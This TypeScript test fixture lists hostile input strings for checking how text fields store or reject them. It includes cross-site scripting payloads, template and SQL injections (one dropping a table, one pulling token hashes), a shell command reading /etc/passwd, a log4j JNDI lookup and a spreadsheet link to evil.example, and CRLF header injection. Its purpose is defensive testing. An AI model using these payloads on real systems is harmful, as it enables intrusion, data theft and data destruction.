/*
 * What people and scanners put into text fields to see what breaks. Each is stored as it is or refused with a code.
 * `{{mark}}`-like and quoted commands name `torillaWasHere`, so that a test can see whether one of them ran.
 */

const script = "window.torillaWasHere=1";

export const hostileTexts: Record<string, string> = {
  // Markup and scripts
  scriptTag: `<script>${script}</script>`,
  imageError: `<img src=x onerror="${script}">`,
  svgLoad: `<svg/onload=${script}>`,
  attributeBreak: `" autofocus onfocus="${script}" x="`,
  singleQuoteBreak: `'><details open ontoggle=${script}>`,
  closingTags: `</title></textarea></style></script><script>${script}</script>`,
  javascriptUrl: `javascript:${script}`,
  javascriptUrlHidden: `java\tscript:${script}//`,
  dataUrl: `data:text/html,<script>${script}</script>`,
  iframeSource: `<iframe srcdoc="<script>parent.torillaWasHere=1</script>"></iframe>`,
  mathMutation: `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  templateTag: `<template><script>${script}</script></template>`,
  comment: "<!-- --!><b>",
  cdata: `<![CDATA[<script>${script}</script>]]>`,
  entity: "&lt;script&gt; &amp;amp; &#x3C;b&#62;",
  formAction: `<form action=javascript:${script}><input type=submit></form>`,
  metaRefresh: `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  foreignImage: `<img src="https://evil.example/pixel.png">`,
  styleImport: `<style>@import url(https://evil.example/a.css);</style>`,
  base: `<base href="https://evil.example/">`,
  // Template and format languages
  mustache: "{{constructor.constructor('torillaWasHere=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  dollarBrace: "${globalThis.torillaWasHere=1}",
  i18nNesting: '$t(common:close) {{name}} $t(errors:internal, {"a":1})',
  erb: "<%= 7*7 %>",
  printf: "%s%s%s%n%n%d %1$s %x",
  shell: "$(touch /tmp/torilla-was-here); `id` | cat /etc/passwd && true",
  assOverride: "{\\p1}m 0 0 l 900 0 900 900{\\p0}\\N\\h{\\pos(0,0)}",
  ffmpegFilter: "';drawtext=textfile=/etc/passwd:x=1,movie=/etc/passwd[out]",
  spreadsheet: '=HYPERLINK("https://evil.example","x")',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody types
  log4j: "${jndi:ldap://evil.example/a}",
  // Databases and structures
  sqlQuote: '\'; DROP TABLE "Event"; --',
  sqlUnion: '\' UNION SELECT hash FROM "AccessToken" --',
  sqlComment: "/**/OR/**/1=1#",
  nosql: '{"$gt":""}',
  likeWildcards: "%_%__%\\%",
  jsonBreak: '","role":"organiser","x":"',
  prototype: "__proto__",
  constructorName: "constructor",
  toStringName: "toString",
  hasOwn: "hasOwnProperty",
  nullWord: "null",
  undefinedWord: "undefined",
  notANumber: "NaN",
  // Protocols
  crlfHeader: "x\r\nSet-Cookie: torilla_session=evil\r\n\r\n<html>",
  lineSeparators: "a\u2028b\u2029c\u0085d",
  onlySpaces: "\u00a0\u2003\u3000 \t\n",
  zeroWidth: "a\u200bb\u200cc\u200dd\u2060e\ufefff",
  controls: "\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f",
  csi: "\u009b31m",
  // Unicode
  nul: "a\u0000b",
  loneHigh: "a\ud800b",
  loneLow: "a\udfffb",
  noncharacter: "\uffff\ufffe\ufdd0",
  rightToLeft: "\u202egpj.exe\u202c Aino",
  isolates: "\u2067\u2066abc\u2069\u2069 \u2068x",
  arabic: "مرحبا بالعالم 123 abc",
  hebrewNikud: "שָׁלוֹם",
  zalgo: `Z${"\u0341\u0310\u0337\u035f".repeat(40)}algo`,
  longMarks: `e${"\u0301".repeat(190)}`,
  family: "👨‍👩‍👧‍👦 👩🏽‍🚀 🏳️‍🌈 🇫🇮",
  tagFlag: "🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
  astral: "𝕋𝕠𝕣𝕚𝕝𝕝𝕒 𠜎𠜱",
  homoglyph: "Аino Esimеrkki (Суrillic)",
  fullwidth: "＜script＞alert(1)＜/script＞",
  turkishI: "İıIi ẞß ﬀ ǅ",
  decomposed: "A\u0308a\u0308 O\u0308o\u0308",
  // Sizes
  longWord: "Hääyöaie".repeat(22),
  longLine: "lorem ipsum ".repeat(330).trim(),
  long10000: "x".repeat(10_000),
  long50000: "ä".repeat(25_000),
  long100000: "x".repeat(100_000),
};

export const HOSTILE_NAMES = Object.keys(hostileTexts);
